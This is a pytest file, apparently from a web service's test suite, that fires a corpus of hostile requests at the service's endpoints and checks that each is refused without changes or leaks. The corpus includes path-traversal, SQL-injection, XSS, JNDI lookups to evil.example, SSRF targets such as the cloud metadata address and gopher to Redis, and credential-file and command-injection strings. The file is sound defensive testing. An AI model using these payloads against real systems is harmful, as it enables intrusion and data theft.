"""A corpus of hostile requests, made here: none is an internal error, none changes anything, the service stays up.

Hostile are places (ids, names, paths), bodies, queries, headers and URIs of files. Each is sent to every
operation that takes such a part.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from service.settings import settings
from service.store.session import transaction
from tests.conftest import TestClient
from tests.service.conftest import add_ranking, checkpoint_body, dataset_body

PROBLEM = "application/problem+json"
TEXTS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "a%00b",
    "%0d%0aSet-Cookie:x=1",
    "' OR 1=1 --",
    "'; DROP TABLE rankings; --",
    "%27%20UNION%20SELECT%201",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%ff%fe",
    "%ed%a0%80",
    "\u202e",
    "x" * 501,
    "x" * 4000,
    "%",
    "*",
    "none",
    "-1",
]
PLACES = [
    "/v1/datasets/{}",
    "/v1/checkpoints/{}",
    "/v1/rankings/{}",
    "/v1/finetune-runs/{}",
    "/v1/finetune-runs/{}/network",
    "/datasets/{}",
    "/rankings/{}",
    "/static/{}",
]
JSON_BODIES: list[bytes] = [
    b"",
    b"null",
    b"[]",
    b"0",
    b'"text"',
    b"{",
    b"\xff\xfe",
    b'{"a": NaN}',
    b'{"dataset": 1e999}',
    b'{"dataset": "\\ud800"}',
    b"[" * 100_000,
    b'{"a":' * 50 + b"1" + b"}" * 50,
    b'{"name": "x", "name": "y"}',
    b'{"__proto__": {"admin": true}}',
    b'{"__class__": "os.system"}',
    json.dumps({"uri": 10**400}).encode(),
    json.dumps({"dataset": "x", "candidates": ["x"] * 20_000}).encode(),
    json.dumps({"rows": [{}] * 20_001}).encode(),
    json.dumps({"parameters": {"x" * 1000: "y"}}).encode(),
]
WRITES = [
    ("POST", "/v1/datasets"),
    ("POST", "/v1/checkpoints"),
    ("POST", "/v1/rankings"),
    ("POST", "/v1/rankings/cost"),
    ("POST", "/v1/finetune-runs"),
    ("POST", "/v1/outcomes"),
    ("PATCH", "/v1/datasets/discs"),
    ("PATCH", "/v1/checkpoints/a"),
    ("PATCH", "/v1/rankings/none"),
    ("PATCH", "/v1/finetune-runs/none"),
]
URIS = [
    "/etc/passwd",
    "/proc/self/environ",
    "/dev/zero",
    "file:///etc/shadow",
    "file://evil.example/x.npz",
    "http://169.254.169.254/latest/meta-data",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "\\\\evil.example\\share\\x.npz",
    "{data}/../../../../etc/passwd",
    "{data}/%2e%2e/%2e%2e/etc/passwd",
    "file://{data}/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "{data}/x.npz\u0000.txt",
    "{data}",
    "{data}/" + "d/" * 3000 + "x.npz",
    "data:application/octet-stream;base64,AAAA",
    "~/x.npz",
    "$HOME/x.npz",
    "`id`",
]
REFUSED: list[tuple[str, str | bytes]] = [
    *(("Idempotency-Key", key) for key in ("x" * 201, "\x7f", "", b"\xff")),
    *(("Content-Type", kind) for kind in ("application/x-pickle", "text/html", "multipart/form-data", "")),
    *(
        ("Origin", origin)
        for origin in (
            "http://[",
            "http://[x]:1",
            "http://[::1",
            "http://]",
            "http://127.0.0.1:x",
            "http://127.0.0.1@evil.example",
            "http://evil.example\\@127.0.0.1",
            "http://127.0.0.1, http://evil.example",
            "http://\u2100.example".encode(),
            b"\xff\xfe",
            "127.0.0.1",
            "//",
            "javascript:alert(1)",
            "x" * 5000,
            "",
        )
    ),
    *(
        ("Host", host)
        for host in ("[", "[x]", "[::1", "]", "a b", "@", ":80", b"\xff", "127.0.0.1@evil.example", "")
    ),
    *(("Sec-Fetch-Site", site) for site in ("", "x", "none, cross-site", "SAME-ORIGIN", b"\xff", "none" * 1000)),
]
IGNORED = [
    ("Content-Encoding", "gzip"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Forwarded-Host", "evil.example"),
    ("Forwarded", "host=evil.example"),
    ("Accept", "a/" + "b" * 5000),
    ("Range", "bytes=0-18446744073709551616"),
]
VALID = {"dataset": "discs", "candidates": ["a"]}


@pytest.fixture
def hostile(client: TestClient) -> Iterator[TestClient]:
    """A client of a service that has a ranking, which is as it was afterwards, beside a service that is well."""
    with transaction() as session:
        ranking = add_ranking(session, ["a"]).id
    paths = ("/v1/datasets", "/v1/checkpoints", "/v1/rankings", f"/v1/rankings/{ranking}", "/v1/finetune-runs")
    before = [client.get(path).json() for path in paths]
    yield client
    assert [client.get(path).json() for path in paths] == before
    assert client.get("/v1/outcomes").json()["items"] == []
    assert client.get("/readyz").status_code == 200


def harmless(answer: Any, sent: str) -> None:
    assert 400 <= answer.status_code < 500, f"{sent}: {answer.status_code} {answer.text[:300]}"
    if answer.headers["content-type"] == PROBLEM:
        assert answer.json()["errors"], sent
    assert "Traceback" not in answer.text
    assert "root:" not in answer.text
    assert "set-cookie" not in answer.headers


def test_hostile_places_name_nothing(hostile: TestClient) -> None:
    for place in PLACES:
        for text in TEXTS:
            harmless(hostile.get(place.format(text)), f"GET {place} {text[:40]!r}")
    for place in PLACES[:4]:
        for text in TEXTS:
            harmless(hostile.delete(place.format(text)), f"DELETE {place} {text[:40]!r}")


def test_hostile_bodies_are_problems(hostile: TestClient) -> None:
    for method, path in WRITES:
        for body in JSON_BODIES:
            answer = hostile.request(method, path, content=body, headers={"Content-Type": "application/json"})
            harmless(answer, f"{method} {path} {body[:40]!r}")
            assert answer.headers["content-type"] == PROBLEM


def test_hostile_uris_are_refused(hostile: TestClient) -> None:
    for uri in URIS:
        given = uri.replace("{data}", str(settings().data_dir))[:500]
        for path, body in (("datasets", dataset_body), ("checkpoints", checkpoint_body)):
            answer = hostile.post(f"/v1/{path}", json={**body(settings(), "hostile"), "uri": given})
            harmless(answer, f"{path} {given[:60]!r}")
            assert answer.status_code == 422


def test_hostile_queries_are_problems(hostile: TestClient) -> None:
    for path in ("/v1/datasets", "/v1/checkpoints", "/v1/rankings", "/v1/finetune-runs", "/v1/outcomes"):
        for query in ("limit=0", "limit=-1", "limit=1e9", "limit=x", f"limit={10**30}", "after='", "after=%00"):
            harmless(hostile.get(f"{path}?{query}"), f"{path}?{query}")


def test_a_valid_request_with_a_hostile_header_changes_nothing(hostile: TestClient) -> None:
    for name, value in REFUSED:
        headers = {"Content-Type": "application/json", name: value}
        answer = hostile.post("/v1/rankings", content=json.dumps(VALID), headers=headers)  # type: ignore[arg-type]
        harmless(answer, f"{name}: {value[:60]!r}")


def test_headers_that_name_another_method_or_host_have_no_effect(hostile: TestClient) -> None:
    plain = hostile.post("/v1/rankings/cost", json=VALID)
    assert plain.status_code == 200
    for name, value in IGNORED:
        answer = hostile.post("/v1/rankings/cost", json=VALID, headers={name: value})
        assert (answer.status_code, answer.json()) == (200, plain.json()), name
        assert "evil" not in str(answer.headers)
